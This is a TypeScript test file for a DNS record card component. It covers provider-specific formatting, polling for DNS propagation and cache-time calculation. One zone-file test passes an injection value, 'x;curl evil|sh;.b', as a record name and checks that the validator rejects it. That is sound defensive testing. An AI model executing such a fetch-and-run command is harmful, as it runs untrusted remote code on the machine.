import { screen, waitFor } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { DnsRecord } from "../../ipc/generated/DnsRecord";
import { seenOf } from "../../testing/fake/dns";
import { expectAccessible, renderSignedIn } from "../../testing/render";
import { DnsRecordCard } from "./DnsRecordCard";
import { addressRecord, keptUntil, dnsStateOf, zoneLine } from "./record";

const record: DnsRecord = { name: "ml.contoso.com", kind: "A", value: "20.101.44.7" };
const state = (): string | undefined => screen.getByTestId("dns-watch").dataset["state"];

describe("a DNS record", () => {
  afterEach(() => vi.useRealTimers());

  it("is shown in the format of the chosen DNS provider", async () => {
    const { user, host, unmount } = renderSignedIn(<DnsRecordCard record={record} />);
    await waitFor(() => expect(screen.getByTestId("dns-text").textContent).toContain("az network dns"));
    await user.selectOptions(screen.getByRole("combobox", { name: "DNS provider" }), "zone_file");
    expect(screen.getByTestId("dns-text").textContent).toContain("ml.contoso.com. 300 IN A 20.101.44.7");
    const zone = screen.getByRole("textbox", { name: "Zone" });
    expect(zone).toHaveProperty("value", "contoso.com");
    await user.clear(zone);
    await user.type(zone, "ml.contoso.com");
    await waitFor(() => expect(host.calls.findLast(({ command }) => command === "dns_texts")?.args).toEqual({ record, zone: "ml.contoso.com" }));
    await expectAccessible();
    unmount();
  });

  it("is polled until DNS returns it, then no longer", async () => {
    vi.useFakeTimers({ shouldAdvanceTime: true });
    const answers = [seenOf(), seenOf({ values: ["10.0.0.9"], ttlSeconds: 120 }), seenOf({ agrees: true, values: [record.value], ttlSeconds: 300 })];
    const { host } = renderSignedIn(<DnsRecordCard record={record} />, { look_up_dns: () => answers.shift() ?? seenOf({ agrees: true }) });
    const looks = (): number => host.calls.filter(({ command }) => command === "look_up_dns").length;
    await waitFor(() => expect(state()).toBe("missing"));
    await vi.advanceTimersByTimeAsync(5000);
    await waitFor(() => expect(state()).toBe("other"));
    expect(screen.getByRole("status").textContent).toBe("DNS returns 10.0.0.9 instead.");
    expect(screen.getByTestId("dns-kept").textContent).toMatch(/up to (2 min|1 min 5\d sec)/);
    await vi.advanceTimersByTimeAsync(5000);
    await waitFor(() => expect(state()).toBe("answers"));
    expect(screen.getByTestId("dns-kept").textContent).toContain("previous value");
    const before = looks();
    await vi.advanceTimersByTimeAsync(20_000);
    expect(looks()).toBe(before);
  });
});

describe("DNS record status", () => {
  it("distinguishes an empty answer from no answer", () => {
    expect(dnsStateOf(undefined)).toBe("looking");
    expect(dnsStateOf(seenOf())).toBe("missing");
    expect(dnsStateOf(seenOf({ problem: "timed out" }))).toBe("problem");
  });

  it("knows how long a wrong value may be cached", () => {
    const seen = seenOf({ values: ["1.2.3.4"], ttlSeconds: 60, lookedAt: "2026-11-21T09:00:00Z" });
    expect(keptUntil(seen)).toBe(Date.parse("2026-11-21T09:01:00Z"));
    expect(keptUntil({ ...seen, agrees: true })).toBeNull();
  });

  it("is written in zone file format", () => {
    expect(zoneLine({ name: "_acme-challenge.a.b", kind: "TXT", value: "x" })).toBe('_acme-challenge.a.b. 300 IN TXT "x"');
    expect(zoneLine({ name: "x;curl evil|sh;.b", kind: "TXT", value: "x" })).toBeNull();
    expect(zoneLine({ name: "a.b", kind: "TXT", value: 'x" "y' })).toBeNull();
    expect(zoneLine({ name: "a.b", kind: "AAAA", value: "2001:db8::1" })).toBe("a.b. 300 IN AAAA 2001:db8::1");
    expect(addressRecord("a.b", "2001:db8::1").kind).toBe("AAAA");
  });
});
